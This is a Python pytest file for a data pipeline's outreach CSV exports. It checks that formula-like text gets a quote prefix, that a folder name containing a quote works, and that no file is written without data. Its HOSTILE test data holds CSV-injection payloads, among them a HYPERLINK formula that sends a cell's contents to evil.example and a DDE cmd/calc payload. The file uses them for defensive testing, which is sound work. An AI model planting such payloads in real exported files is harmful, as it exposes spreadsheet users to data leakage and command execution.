"""The outreach CSV files: formula-like text neutralised (CSV injection), any export folder name, no file without
data. On a hand-made serving file with the few tables the exports read."""

from __future__ import annotations

import csv

import dagster as dg
import duckdb
import pytest

from pipeline.serving.assets import Serving
from pipeline.value.exports import Exports, outreach_exports

HOSTILE = {  # name -> what the spreadsheet must get: the same text, read as text
    '=HYPERLINK("http://evil.example/?x="&A1,"click")': "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "Ada = Lovelace": "Ada = Lovelace",  # a formula sign further in is harmless
    "'quoted": "'quoted",
}

TABLES = """
CREATE SCHEMA marts;
CREATE TABLE marts.at_risk_customers (priority_rank BIGINT, customer_id VARCHAR, name VARCHAR, email VARCHAR,
    segment VARCHAR, reasons VARCHAR[], value_at_risk DOUBLE, p_alive DOUBLE, days_since_last_activity BIGINT,
    expected_next_order_date DATE, as_of DATE, value_at_stake DOUBLE);
CREATE TABLE marts.customer_value (customer_id VARCHAR, segment VARCHAR, lifetime_revenue DOUBLE,
    trailing_12m_revenue DOUBLE, last_active_day DATE, as_of DATE);
CREATE TABLE marts.customer_periods (grain VARCHAR, period_start DATE, customer_id VARCHAR, is_churned BOOLEAN,
    mrr_start DOUBLE);
CREATE TABLE marts.retention (grain VARCHAR, period_start DATE, is_complete BOOLEAN);
CREATE TABLE marts.customer_contacts (customer_id VARCHAR, name VARCHAR, email VARCHAR);
"""


def _serving_file(path, with_data: bool) -> None:
    with duckdb.connect(str(path)) as con:
        con.execute(TABLES)
        if not with_data:
            return
        for rank, name in enumerate(HOSTILE, 1):
            customer = f"c{rank}"
            con.execute("INSERT INTO marts.at_risk_customers VALUES (?, ?, ?, ?, ?, ['overdue'], -12.5, 0.4, 30, "
                        "DATE '2025-07-01', DATE '2025-06-30', 100.0)", [rank, customer, name, f"-{customer}@x.example", name])
            con.execute("INSERT INTO marts.customer_value VALUES (?, ?, 100, 50, DATE '2025-05-01', DATE '2025-06-30')",
                        [customer, name])
            con.execute("INSERT INTO marts.customer_periods VALUES ('month', DATE '2025-05-01', ?, true, -3.0)", [customer])
            con.execute("INSERT INTO marts.customer_contacts VALUES (?, ?, ?)", [customer, name, "=x@evil.example"])
        con.execute("INSERT INTO marts.retention VALUES ('month', DATE '2025-05-01', true)")


def _export(tmp_path, with_data: bool):
    serving = tmp_path / "serving.duckdb"
    _serving_file(serving, with_data)
    folder = tmp_path / "o'brien's exports"  # a quote in the path once broke the COPY statement
    result = dg.materialize([outreach_exports], resources={
        "serving": Serving(path=str(serving)), "exports": Exports(path=str(folder))})
    assert result.success
    return folder, result.asset_materializations_for_node("exports__outreach")[0].metadata


def _rows(path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    return _export(tmp_path_factory.mktemp("exports"), with_data=True)


def test_text_that_starts_like_a_formula_gets_a_quote_in_front(exported):
    folder, _ = exported
    at_risk = _rows(folder / "at_risk_customers_2025-06-30.csv")
    churned = _rows(folder / "churned_customers_2025-05.csv")
    assert [r["name"] for r in at_risk] == list(HOSTILE.values())
    assert [r["segment"] for r in at_risk] == list(HOSTILE.values())
    assert {r["email"][:2] for r in at_risk} == {"'-"}
    assert sorted(r["name"] for r in churned) == sorted(HOSTILE.values())
    assert {r["email"] for r in churned} == {"'=x@evil.example"}


def test_numbers_stay_numbers(exported):
    """A negative amount is a number to a spreadsheet, not a formula: left as it is."""
    folder, _ = exported
    assert {r["value_at_risk"] for r in _rows(folder / "at_risk_customers_2025-06-30.csv")} == {"-12.5"}
    assert {r["lost_mrr"] for r in _rows(folder / "churned_customers_2025-05.csv")} == {"-3.0"}


def test_the_files_land_in_a_folder_with_a_quote_in_its_name(exported):
    folder, metadata = exported
    assert metadata["at_risk_file"].text == str(folder / "at_risk_customers_2025-06-30.csv")
    assert metadata["at_risk_rows"].value == len(HOSTILE)
    assert sorted(p.name for p in folder.iterdir()) == ["at_risk_customers_2025-06-30.csv", "churned_customers_2025-05.csv"]


def test_a_serving_file_without_data_writes_no_file(tmp_path):
    folder, metadata = _export(tmp_path, with_data=False)
    assert list(folder.iterdir()) == []
    assert metadata["at_risk_file"].text == "none (no data)" and metadata["at_risk_rows"].value == 0
